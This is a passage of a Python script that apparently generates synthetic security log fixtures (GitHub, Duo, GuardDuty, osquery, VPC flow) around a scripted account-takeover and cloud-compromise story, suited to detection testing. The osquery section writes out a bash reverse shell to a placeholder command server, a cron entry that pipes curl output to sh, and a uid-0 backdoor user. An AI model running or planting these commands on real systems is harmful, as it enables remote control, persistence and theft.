            add(when, "nadia.voss", "team.add_member", team=f"{ORG}/firmware", user=STAFF[login][1],
                user_id=ids[login], operation_type="modify")
        elif pick == "repo":
            add(when, login, "repo.create", repo=f"spike-{rng.hex(4)}", visibility="private", operation_type="create")
        elif pick == "alert":
            add(when, login, "repository_vulnerability_alert.create", repo=repo, alert_number=rng.randrange(1, 90),
                ghsa_id="GHSA-xxxx-xxxx-xxxx", operation_type="create")
        else:
            # A read-only deploy key, on a repository that publishes documentation: allowed.
            add(when, login, "public_key.create", repo="docs", title="docs-publisher", read_only="true",
                fingerprint="SHA256:" + rng.hex(40), operation_type="create")

    def story(clock, action, repo=None, **more):
        number = sum(e["_document_id"].startswith("a77ac000") for _, e in events) + 1
        add(at(clock), "owen.marsh", action, ip=ATTACKER, repo=repo, _document_id=f"a77ac000d{number:013d}", **more)

    story("10:31:05", "org.disable_two_factor_requirement", operation_type="modify")
    story("10:33:41", "repository_secret_scanning_push_protection.disable", "arm-firmware", operation_type="modify")
    story("10:35:18", "protected_branch.destroy", "arm-firmware", name="main", protected_branch_id=31001,
          operation_type="remove")
    story("10:36:02", "protected_branch.policy_override", "fleet-console", branch="refs/heads/main",
          overridden_codes=["review_policy_not_satisfied"], reasons=[{"code": "review_policy_not_satisfied"}],
          operation_type="modify")
    story("10:39:27", "public_key.create", "arm-firmware", title="ci-sync", read_only="false",
          fingerprint="SHA256:" + "ab" * 20, operation_type="create")
    story("10:44:50", "repo.access", "fleet-console", visibility="public", previous_visibility="private",
          public_repo=True, operation_type="modify")
    story("10:47:13", "org.add_member", user="nw-helper-77", user_id=99077, permission="admin",
          operation_type="create")
    story("10:49:36", "hook.create", "arm-firmware", hook_id=55001, name="webhook", events=["push"], active=True,
          config={"url": f"http://{COMMAND_SERVER}/h", "content_type": "json", "insecure_ssl": "1"},
          operation_type="create")
    for number, repo in enumerate(repos + ["motor-drivers", "vision-models", "release-keys", "sales-site"]):
        story(f"10:52:{4 * number:02d}", "git.clone", repo, repository=f"{ORG}/{repo}", repository_public=False,
              transport_protocol=1, transport_protocol_name="http", user="", hashed_token=token, token_id=660001,
              token_scopes="repo,admin:org", programmatic_access_type="Personal access token (classic)",
              user_agent="git/2.43.0")
    story("10:55:40", "org.audit_log_export", operation_type="access")
    ordered = by_time(events)
    # Fault 3: a vendor that nobody described.
    badge = {"reader": "HQ-04", "badge": "4471", "door": "loading dock", "granted": True, "at": iso(at("08:02:11"))}
    return lines(ordered[:12] + [badge] + ordered[12:]), len(ordered)


# ---- Duo --------------------------------------------------------------------------------------------


def duo_auth(rng, when, login, ip, result, reason, factor="duo_push", app="Staff VPN", **more):
    hostile = ip == ATTACKER
    spot = {"city": "Port Example" if hostile else "Harbor City", "country": "Elsewhere" if hostile else "Homeland",
            "state": "Port Example" if hostile else "Harbor"}
    home = {"city": "Harbor City", "country": "Homeland", "state": "Harbor"}
    phone = None if factor in ("remembered_device", "bypass_code") else {
        "ip": STAFF[login][2], "key": "DP" + OKTA_IDS[login][3:21].upper(), "location": home,
        "name": "+1 555 0100"}
    event = {
        "access_device": {"browser": "Firefox" if hostile else "Chrome",
                          "browser_version": "128.0" if hostile else "142.0.0.0",
                          "epkey": None if hostile else "EP" + OKTA_IDS[login][3:21].upper(), "flash_version": None,
                          "hostname": None, "ip": ip, "is_encryption_enabled": "unknown" if hostile else True,
                          "is_firewall_enabled": "unknown" if hostile else True,
                          "is_password_set": "unknown" if hostile else True, "java_version": None, "location": spot,
                          "os": "Linux" if hostile else "Mac OS X", "os_version": "unknown" if hostile else "15.1",
                          "security_agents": []},
        "adaptive_trust_assessments": {"more_secure_auth": {
            "features_version": "3.0", "model_version": "2022.07.19.001", "policy_enabled": True,
            "reason": "Login is from a new network" if hostile else "Normal level of trust; no detection of known "
            "attack pattern", "trust_level": "LOW" if hostile else "NORMAL"}},
        "alias": "unknown",
        "application": {"key": "DI" + hashlib.sha1(app.encode()).hexdigest()[:18].upper(), "name": app},
        "auth_device": phone,
        "email": f"{login}@{DOMAIN}",
        "event_type": "authentication",
        "factor": factor,
        "isotimestamp": when.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00"),
        "ood_software": None,
        "reason": reason,
        "result": result,
        "timestamp": epoch(when),
        "trusted_endpoint_status": "not trusted" if hostile else "trusted",
        "txid": rng.uuid(),
        "user": {"groups": ["Staff (from AD sync)"], "key": "DU" + OKTA_IDS[login][3:21].upper(), "name": login},
    }
    event.update(more)
    return when, event


def duo_authentication(rng):
    events = []
    for when in rng.moments(70):
        login = rng.choice(list(STAFF))
        result, reason, factor = rng.choices(
            [("success", "user_approved", "duo_push"), ("success", "valid_passcode", "passcode"),
             ("success", "remembered_device", "remembered_device"), ("denied", "no_response", "duo_push"),
             ("denied", "user_cancelled", "duo_push"), ("denied", "invalid_passcode", "passcode")],
            [60, 10, 20, 4, 3, 3])[0]
        events.append(duo_auth(rng, when, login, rng.where(login), result, reason, factor,
                               rng.choice(["Staff VPN", "Staff VPN", "Build hosts (SSH)"])))

    def story(clock, login, *a, **k):
        number = sum(e["txid"].startswith("a77ac000") for _, e in events) + 1
        events.append(duo_auth(rng, at(clock), login, ATTACKER, *a, txid=story_id("e", number), **k))

    story("10:02:10", "owen.marsh", "denied", "no_response")
    story("10:03:24", "owen.marsh", "denied", "user_mistake")
    story("10:04:31", "owen.marsh", "denied", "user_mistake")
    story("10:05:40", "owen.marsh", "fraud", "user_marked_fraud")
    story("10:06:52", "owen.marsh", "denied", "no_response")
    story("10:08:15", "owen.marsh", "success", "user_approved")
    story("10:25:03", "pete.quill", "success", "valid_passcode", factor="bypass_code", app="Build hosts (SSH)")
    ordered = by_time(events)
    return (json.dumps(ordered, indent=1) + "\n").encode(), len(ordered)


def duo_administrator(rng):
    events = []

    def add(when, who, action, thing, description):
        events.append((when, {"action": action, "description": compact(description),
                              "isotimestamp": when.strftime("%Y-%m-%dT%H:%M:%S+00:00"), "object": thing,
                              "timestamp": epoch(when), "username": who}))

    for when in rng.moments(12, "08:00:00", "09:30:00"):
        login = rng.choice(ORDINARY)
        pick = rng.choice(["admin_login", "user_update", "phone_create", "user_create", "ad_sync_begin"])
        if pick == "admin_login":
            add(when, "Nadia Voss", pick, None, {"ip_address": OFFICE, "primary_auth_method": "SSO", "factor": "push",
                                                  "device": "+1 555 0100"})
        elif pick == "user_update":
            add(when, "AD Sync: northwind", pick, login, {"realname": STAFF[login][0], "status": "Active"})
        elif pick == "ad_sync_begin":
            add(when, "AD Sync: northwind", pick, "AD Sync: northwind", {})
        else:
            add(when, "Nadia Voss", pick, login if pick == "user_create" else "+1 555 0100", {"name": login})
    # Story: a session of the administrator whose factors were reset in Okta.
    add(at("10:18:09"), "Nadia Voss", "admin_login", None,
        {"ip_address": ATTACKER, "primary_auth_method": "SSO", "factor": "push", "device": "+1 555 0199"})
    add(at("10:21:32"), "Nadia Voss", "bypass_create", "pete.quill",
        {"user_id": "DU" + OKTA_IDS["pete.quill"][3:21].upper(), "count": 10, "valid_secs": 0, "remaining_uses": 0,
         "auto_generated": True, "bypass": ""})
    add(at("10:23:50"), "Nadia Voss", "user_update", "hugo.stein", {"status": "Bypass"})
    add(at("10:28:16"), "Nadia Voss", "integration_create", "sync-helper",
        {"name": "sync-helper", "type": "Admin API", "adminapi_admins": 1, "adminapi_write_resource": 1})
    return lines(by_time(events)), len(events)


def duo_activity(rng):
    events = []

    def add(when, login, action, details, ip, **more):
        hostile = ip == ATTACKER
        event = {"access_device": {"browser": "Chrome", "browser_version": "142.0.0.0", "ip": {"address": ip},
                                   "location": {"city": "Port Example" if hostile else "Harbor City",
                                                "country": "Elsewhere" if hostile else "Homeland", "state": None},
                                   "os": "Mac OS X", "os_version": "15.1"},
                 "action": {"name": action, "details": details}, "activity_id": rng.uuid(),
                 "actor": {"details": None, "key": "DE" + OKTA_IDS[login][3:21].upper(), "name": STAFF[login][0],
                           "type": "admin"},
                 "akey": "DA000000000000EXAMPLE", "application": None, "old_target": None, "outcome": None,
                 "target": {"details": None, "key": "DU" + rng.hex(18).upper(), "name": "unknown", "type": "user"},
                 "ts": when.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")}
        event.update(more)
        events.append((when, event))

    for when in rng.moments(7):
        action = rng.choice(["user_update", "phone_associate", "group_associate"])
        add(when, "nadia.voss", action, None, OFFICE)
    add(at("10:21:32"), "nadia.voss", "bypass_create", None, ATTACKER, activity_id=story_id("f", 1),
        target={"details": None, "key": "DU" + OKTA_IDS["pete.quill"][3:21].upper(), "name": "pete.quill",
                "type": "user"})
    return lines(by_time(events)), len(events)


# ---- GuardDuty --------------------------------------------------------------------------------------


def finding(when, account, number, kind, severity, title, resource, action, **more):
    name = f"{number:032x}"
    detector = f"arn:aws:guardduty:{REGION}:{account}:detector/12abc34d567e8fa901bc2d34e56789f0"
    event = {
        "schemaVersion": "2.0", "accountId": account, "region": REGION, "partition": "aws", "id": name,
        "arn": f"{detector}/finding/{name}", "type": kind, "resource": resource,
        "service": {"serviceName": "guardduty", "detectorId": "12abc34d567e8fa901bc2d34e56789f0", "action": action,
                    "resourceRole": "TARGET", "additionalInfo": {"type": "default", "value": "{}"},
                    "eventFirstSeen": iso(when, 3), "eventLastSeen": iso(when, 3), "archived": False, "count": 1},
        "severity": severity, "createdAt": iso(when + timedelta(minutes=5), 3),
        "updatedAt": iso(when + timedelta(minutes=5), 3), "title": title,
        "description": title + ".",
    }
    event.update(more)
    return when, event


def remote(ip):
    system = ATTACKER_AS if ip.startswith("203.") else HOME_AS
    return {"ipAddressV4": ip, "organization": {"asn": str(system[0]), "asnOrg": system[1], "isp": system[1],
                                                "org": system[1]},
            "country": {"countryName": "Elsewhere" if ip.startswith("203.") else "Homeland"},
            "city": {"cityName": "Port Example" if ip.startswith("203.") else "Harbor City"},
            "geoLocation": {"lat": 0.0, "lon": 0.0}}


def aws_call(api, service, ip):
    return {"actionType": "AWS_API_CALL", "awsApiCallAction": {
        "api": api, "serviceName": f"{service}.amazonaws.com", "callerType": "Remote IP",
        "remoteIpDetails": remote(ip), "affectedResources": {}}}


def access_key(user, kind, key="AKIAIOSFODNN7EXAMPLE"):
    return {"resourceType": "AccessKey", "accessKeyDetails": {
        "accessKeyId": key, "principalId": "AIDAEXAMPLEEXAMPLE", "userType": kind, "userName": user}}


def instance(name, kind):
    return {"resourceType": "Instance", "instanceDetails": {
        "instanceId": name, "instanceType": kind, "launchTime": iso(at("11:26:55"), 3), "platform": None,
        "imageId": "ami-0abcdef1234567890", "instanceState": "running", "tags": [],
        "networkInterfaces": [{"networkInterfaceId": "eni-0bad0bad0bad0bad1", "privateIpAddress": "10.0.12.34",
                               "subnetId": "subnet-0aa0aa0aa0aa0aa01", "vpcId": "vpc-0bb0bb0bb0bb0bb01"}]}}


def guardduty(rng):
    events = []
    for number, when in enumerate(rng.moments(10, "06:00:00", "18:00:00")):
        ip = f"198.51.100.{rng.randrange(150, 250)}"
        kind, severity, title = rng.choice([
            ("Recon:EC2/PortProbeUnprotectedPort", 2, "An unprotected port of the web host is being probed"),
            ("UnauthorizedAccess:EC2/SSHBruteForce", 2, "The bastion is a target of SSH guesses"),
            ("Recon:EC2/PortProbeEMRUnprotectedPort", 2, "A port of the batch cluster is being probed")])
        events.append(finding(when, rng.choice([PRODUCTION, SANDBOX]), 0x1000 + number, kind, severity, title,
                              instance("i-0a1b2c3d4e5f60718", "m7g.large"),
                              {"actionType": "PORT_PROBE", "portProbeAction": {"blocked": False, "portProbeDetails": [
                                  {"localPortDetails": {"port": 22, "portName": "SSH"},
                                   "remoteIpDetails": remote(ip)}]}}))
    sequence = f"arn:aws:guardduty:{REGION}:{PRODUCTION}:detector/12abc34d567e8fa901bc2d34e56789f0/finding/" + \
        f"{0xa77ac000 << 96 | 8:032x}"
    story = lambda clock, number, *a, **k: events.append(
        finding(at(clock), PRODUCTION, 0xa77ac000 << 96 | number, *a, **k))
    deploy, root = access_key("svc-deploy", "IAMUser"), access_key("Root", "Root", "ASIAIOSFODNN7EXAMPLE")
    story("11:02:07", 1, "Policy:IAMUser/RootCredentialUsage", 2, "The root user signed in to the console", root,
          aws_call("ConsoleLogin", "signin", ATTACKER))
    story("11:02:08", 2, "UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B", 5,
          "Console sign-ins from several places at once", root, aws_call("ConsoleLogin", "signin", ATTACKER),
          associatedAttackSequenceArn=sequence)
    story("11:12:10", 3, "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8.0,
          "Credentials of an instance role are used from outside AWS",
          access_key("fleet-console", "AssumedRole", "ASIAIOSFODNN7EXAMPLE"),
          aws_call("GetSecretValue", "secretsmanager", ATTACKER), associatedAttackSequenceArn=sequence)
    story("11:23:10", 4, "Policy:S3/BucketAnonymousAccessGranted", 8.0,
          "The bucket northwind-telemetry was opened to everyone",
          {"resourceType": "S3Bucket", **{k: v for k, v in deploy.items() if k != "resourceType"},
           "s3BucketDetails": [{"arn": "arn:aws:s3:::northwind-telemetry", "name": "northwind-telemetry",
                                "type": "Destination", "publicAccess": {"effectivePermission": "PUBLIC"}}]},
          aws_call("PutBucketAcl", "s3", ATTACKER))
    story("11:28:40", 5, "CryptoCurrency:EC2/BitcoinTool.B!DNS", 8.0,
          "An instance looks up a name of a currency mining pool", instance("i-0bad0bad0bad0bad1", "p5.48xlarge"),
          {"actionType": "DNS_REQUEST", "dnsRequestAction": {"domain": "pool.mining.example", "protocol": "UDP",
                                                              "blocked": False}})
    story("11:29:05", 6, "CryptoCurrency:EC2/BitcoinTool.B", 8.0, "An instance talks to a currency mining pool",
          instance("i-0bad0bad0bad0bad1", "p5.48xlarge"),
          {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
              "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": False,
              "remoteIpDetails": remote(MINING_POOL), "remotePortDetails": {"port": 3333, "portName": "Unknown"},
              "localPortDetails": {"port": 49812, "portName": "Unknown"}}})
    story("11:31:09", 7, "Stealth:IAMUser/CloudTrailLoggingDisabled", 2, "The trail app-trail was stopped", deploy,
          aws_call("StopLogging", "cloudtrail", ATTACKER), associatedAttackSequenceArn=sequence)
    story("11:32:00", 8, "AttackSequence:IAM/CompromisedCredentials", 9.0,
          "A chain of calls with the credentials of svc-deploy looks like a compromise",
          {"resourceType": "AttackSequence"}, None)
    ordered = by_time(events)
    chosen = [e for e in ordered if e["type"].startswith(("CryptoCurrency", "AttackSequence"))]
    wrapped = [{"version": "0", "id": story_id("9", n + 1), "detail-type": "GuardDuty Finding",
                "source": "aws.guardduty", "account": e["accountId"], "time": e["updatedAt"][:19] + "Z",
                "region": REGION, "resources": [], "detail": e} for n, e in enumerate(chosen)]
    return packed(lines(ordered)), len(ordered), lines(wrapped), len(wrapped)


# ---- osquery ----------------------------------------------------------------------------------------


def osquery(rng):
    events = []
    counters = Counter()
    hosts = ["nwr-mac-017", "nwr-mac-022", "nwr-mac-031", "build-runner-01", "build-runner-03", "fleet-console-1"]

    def common(when, host):
        return {"hostIdentifier": host, "calendarTime": when.strftime("%a %b %d %H:%M:%S %Y UTC"),
                "unixTime": epoch(when)}

    def decorations(host):
        return {"decorations": {"host_uuid": hashlib.md5(host.encode()).hexdigest().upper(),
                                "hostname": f"{host}.{DOMAIN}"}}

    def counted(host, name):
        counters[host, name] += 1
        return {"epoch": 0, "counter": counters[host, name], "numerics": False}

    def row(when, host, name, columns, action="added"):
        events.append((when, {"name": name, **common(when, host), **counted(host, name), **decorations(host),
                              "columns": columns, "action": action}))

    def process(path, cmdline):
        return {"pid": str(rng.randrange(300, 60000)), "name": path.rsplit("/", 1)[-1], "path": path,
                "cmdline": cmdline, "parent": "1", "uid": "501"}

    for when in rng.moments(80):
        host = rng.choice(hosts)
        mac = "mac" in host
        pick = rng.choices(["process", "socket", "package", "login", "launchd", "snapshot", "batch", "status"],
                           [18, 14, 10, 14, 5, 8, 5, 8])[0]
        if pick == "process":
            row(when, host, "pack_detect_processes",
                process("/usr/bin/python3", "python3 -m http.client") if not mac else
                process("/Applications/Editor.app/Contents/MacOS/Editor", "Editor --project arm"),
                rng.choice(["added", "removed"]))
        elif pick == "socket":
            row(when, host, "pack_detect_outbound_sockets",
                {**process("/usr/bin/git", "git fetch origin"), "remote_address": f"198.51.100.{rng.randrange(60, 99)}",
                 "remote_port": "443", "local_port": str(rng.randrange(32768, 60999)), "protocol": "6"})
        elif pick == "package":
            row(when, host, "pack_inventory_packages",
                {"name": rng.choice(["openssl", "curl", "jq", "libusb"]), "version": f"3.{rng.randrange(9)}.1",
                 "source": "homebrew" if mac else "deb"}, rng.choice(["added", "removed"]))
        elif pick == "login":
            row(when, host, "pack_detect_logins",
                {"username": rng.choice(["ubuntu", "deploy"]) if not mac else "staff", "tty": "pts/0", "pid": "4410",
                 "host": rng.choice([OFFICE, "10.0.9.20"]), "type": "user", "time": str(epoch(when))})
        elif pick == "launchd":
            row(when, "nwr-mac-022", "pack_detect_launchd",
                {"label": "com.example.updater", "name": "com.example.updater.plist", "run_at_load": "1",
                 "path": "/Library/LaunchDaemons/com.example.updater.plist",
                 "program": "/Applications/Editor.app/Contents/Helpers/updater", "program_arguments": "",
                 "username": "root"})
        elif pick == "snapshot":
            events.append((when, {"snapshot": [{"name": "Ubuntu", "version": "24.04.1 LTS", "platform": "ubuntu"}] if
                                  not mac else [{"name": "macOS", "version": "15.1", "platform": "darwin"}],
                                  "action": "snapshot", "name": "pack_inventory_os_version",
                                  **common(when, host), **counted(host, "os"), **decorations(host)}))
        elif pick == "batch":
            events.append((when, {"name": "pack_inventory_listening_ports", **common(when, host),
                                  **counted(host, "ports"), **decorations(host),
                                  "diffResults": {"added": [{"port": "9100", "protocol": "6", "pid": "811"}],
                                                  "removed": []}}))
        else:
            events.append((when, {**common(when, host), "severity": "0", "filename": "scheduler.cpp",
                                  "line": "121", "message": "Executing scheduled query pack_detect_processes",
                                  "version": "5.19.0", **decorations(host), "log_type": "status"}))

    # Story: first the laptop, then the build host.
    row(at("09:55:12"), "nwr-mac-017", "pack_detect_launchd",
        {"label": "com.apple.softwareupdated.helper", "name": "com.apple.softwareupdated.helper.plist",
         "path": "/Library/LaunchDaemons/com.apple.softwareupdated.helper.plist", "run_at_load": "1",
         "program": "/Users/Shared/.su/helper", "program_arguments": f"/Users/Shared/.su/helper {COMMAND_SERVER}",
         "username": "root"})
    shell = f"bash -i >& /dev/tcp/{COMMAND_SERVER}/4444 0>&1"
    row(at("11:21:30"), "build-runner-03", "pack_detect_outbound_sockets",
        {"pid": "31337", "name": "bash", "path": "/usr/bin/bash", "cmdline": shell, "parent": "1", "uid": "1001",
         "remote_address": COMMAND_SERVER, "remote_port": "4444", "local_port": "50122", "protocol": "6"})
    row(at("11:24:45"), "build-runner-03", "pack_detect_authorized_keys",
        {"uid": "0", "username": "root", "algorithm": "ssh-ed25519", "comment": "ci-sync",
         "key": "AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAM",
         "key_file": "/root/.ssh/authorized_keys"})
    row(at("11:25:20"), "build-runner-03", "pack_detect_suid_bin",
        {"path": "/tmp/.cache/rootsh", "username": "root", "groupname": "root", "permissions": "S",
         "sha256": hashlib.sha256(b"rootsh").hexdigest()})
    row(at("11:26:02"), "build-runner-03", "pack_detect_crontab",
        {"command": f"curl -s http://{COMMAND_SERVER}/x.sh | sh", "path": "/etc/cron.d/.sync", "minute": "*/5",
         "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*", "event": ""})
    row(at("11:27:33"), "build-runner-03", "pack_inventory_users",
        {"username": "sysbackup", "uid": "0", "gid": "0", "directory": "/var/backups", "shell": "/bin/bash",
         "description": ""})
    ordered = by_time(events)
    # Fault 2: the agent's own log, in its own format, ended up among the results.
    plain = "I1117 08:44:10.118364 1423 scheduler.cpp:98] Executing scheduled query pack_detect_logins: SELECT * FROM last"
    return lines(ordered[:20] + [plain] + ordered[20:]), ordered


# ---- VPC flow logs ----------------------------------------------------------------------------------


def flow(when, source, target, source_port, port, action="ACCEPT", packets=12, size=4210, direction="egress",
         flags=19):
    return when, {
        "version": 5, "account_id": PRODUCTION, "interface_id": "eni-0bad0bad0bad0bad1", "srcaddr": source,
        "dstaddr": target, "srcport": source_port, "dstport": port, "protocol": 6, "packets": packets, "bytes": size,
        "start": epoch(when), "end": epoch(when) + 59, "action": action, "log_status": "OK",
        "vpc_id": "vpc-0bb0bb0bb0bb0bb01", "subnet_id": "subnet-0aa0aa0aa0aa0aa01",
        "instance_id": "i-0a1b2c3d4e5f60718", "tcp_flags": flags, "type": "IPv6" if ":" in source else "IPv4",
        "pkt_srcaddr": source, "pkt_dstaddr": target, "region": REGION, "az_id": "use1-az1",
        "flow_direction": direction, "traffic_path": 8 if direction == "egress" else None,
    }


def vpcflow(rng):
    events = []
    for when in rng.moments(90):
        port = rng.randrange(32768, 60999)
        pick = rng.choices(["out", "in", "inner", "probe", "six"], [30, 15, 30, 12, 5])[0]
        size = dict(packets=rng.randrange(6, 400), size=rng.randrange(600, 400000))
        if pick == "out":
            events.append(flow(when, "10.0.12.34", f"198.51.100.{rng.randrange(60, 99)}", port, 443, **size))
        elif pick == "in":
            events.append(flow(when, OFFICE, "10.0.12.34", port, 22, direction="ingress", **size))
        elif pick == "inner":
            events.append(flow(when, "10.0.12.34", "10.0.20.5", port, 5432, **size))
        elif pick == "probe":
            events.append(flow(when, f"198.51.100.{rng.randrange(150, 250)}", "10.0.12.34", port,
                               rng.choice([23, 445, 3389]), "REJECT", 1, 40, "ingress", 2))
        else:
            events.append(flow(when, "2001:db8:12::34", "2001:db8:99::1", port, 443, **size))
    # Story: knocking, entering, calling home, carrying away, mining.
    for number, port in enumerate([21, 23, 25, 80, 110, 139, 445, 1433, 3306, 3389, 5432, 8080]):
        events.append(flow(at(f"11:14:{2 * number:02d}"), ATTACKER, "10.0.12.34", 40000 + number, port, "REJECT", 1,
                           44, "ingress", 2))
    events.append(flow(at("11:17:20"), ATTACKER, "10.0.12.34", 40120, 22, direction="ingress", packets=310,
                       size=48211))
    events.append(flow(at("11:21:30"), "10.0.12.34", COMMAND_SERVER, 50122, 4444, packets=900, size=120400))
    events.append(flow(at("11:24:00"), "10.0.12.34", COMMAND_SERVER, 50140, 443, packets=3400000, size=4831838208))
    for minute in (28, 29, 30):
        events.append(flow(at(f"11:{minute}:00"), "10.0.12.34", MINING_POOL, 49812, 3333, packets=220, size=31000))
    ordered = by_time(events)

    # The same kind of record as a CloudWatch Logs subscription brings it: every value is text.
    v2 = ["version", "account_id", "interface_id", "srcaddr", "dstaddr", "srcport", "dstport", "protocol", "packets",
          "bytes", "start", "end", "action", "log_status"]
    log_events = []
    for number, event in enumerate(e for e in ordered[:40] if e["type"] == "IPv4"):
        fields = {name: str(event[name]) for name in v2} | {"version": "2"}
        log_events.append({"id": f"{38000000000000000000 + number}", "timestamp": event["start"] * 1000,
                           "message": " ".join(fields.values()), "extractedFields": fields})
        if len(log_events) == 15:
            break
    envelope = {"messageType": "DATA_MESSAGE", "owner": PRODUCTION, "logGroup": "/northwind/vpc-flow-logs",
                "logStream": "eni-0bad0bad0bad0bad1-all", "subscriptionFilters": ["streamalert"],
                "logEvents": log_events}
    return lines(ordered), len(ordered), packed(compact(envelope).encode()), len(log_events)


# ---- all of it --------------------------------------------------------------------------------------


def samples():
    """path -> (bytes, events in it)"""
    out = {}
    files, counts = cloudtrail(Rng(1))
    for name, data in files.items():
        out[f"cloudtrail/{name}"] = data, counts[name]
    out["okta/system.jsonl"] = okta(Rng(2))
    out["github/audit.jsonl"] = github(Rng(3))
    out["duo/authentication.json"] = duo_authentication(Rng(4))
    out["duo/administrator.jsonl"] = duo_administrator(Rng(5))
    out["duo/activity.jsonl"] = duo_activity(Rng(6))
    findings, count, wrapped, wrapped_count = guardduty(Rng(7))
    out["guardduty/findings.jsonl.gz"] = findings, count
    out["guardduty/eventbridge.jsonl"] = wrapped, wrapped_count
    data, events = osquery(Rng(8))
    out["osquery/results.jsonl"] = data, len(events)
    flows, count, subscription, subscription_count = vpcflow(Rng(9))
    out["vpcflow/flows.jsonl"] = flows, count
    out["vpcflow/subscription.json.gz"] = subscription, subscription_count
    return out


def main():
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent
    written = samples()
    for path, (data, count) in written.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        print(f"{count:4d}  {path}")
    print(f"{sum(count for _, count in written.values()):4d}  events, "
          f"{sum(len(data) for data, _ in written.values()):,} bytes")


if __name__ == "__main__":
    main()
